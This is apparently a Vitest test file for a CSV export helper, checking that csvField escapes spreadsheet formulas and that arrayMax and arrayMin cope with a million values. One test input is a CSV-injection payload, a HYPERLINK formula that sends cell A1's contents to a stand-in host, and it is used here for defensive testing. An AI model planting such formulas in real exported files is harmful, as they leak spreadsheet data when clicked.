import { describe, expect, it } from 'vitest';
import { arrayMax, arrayMin, csvField } from './csvText';

describe('csvField', () => {
  it('neutralises text that a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("http://x.test/?"&A1,"click")&"_train_loss"')).toBe(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")&""_train_loss"""`);
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe(`"'\rx"`);
  });
  it('leaves ordinary text and numbers alone', () => {
    expect(csvField('side_val_loss')).toBe('side_val_loss');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(NaN)).toBe('');
    expect(csvField(Infinity)).toBe('');
  });
});

describe('arrayMax / arrayMin', () => {
  it('handle a million values (no argument spreading) and the empty case', () => {
    const big = new Float64Array(1_000_000).map((_, i) => (i * 7919) % 1_000_003);
    expect(arrayMax(big)).toBe(Math.max(...Array.from(big.subarray(0, 50_000)), arrayMax(big.subarray(50_000))));
    expect(arrayMin([3, -1, 2])).toBe(-1);
    expect(arrayMax([], 1)).toBe(1);
    expect(arrayMin([], 0)).toBe(0);
  });
});
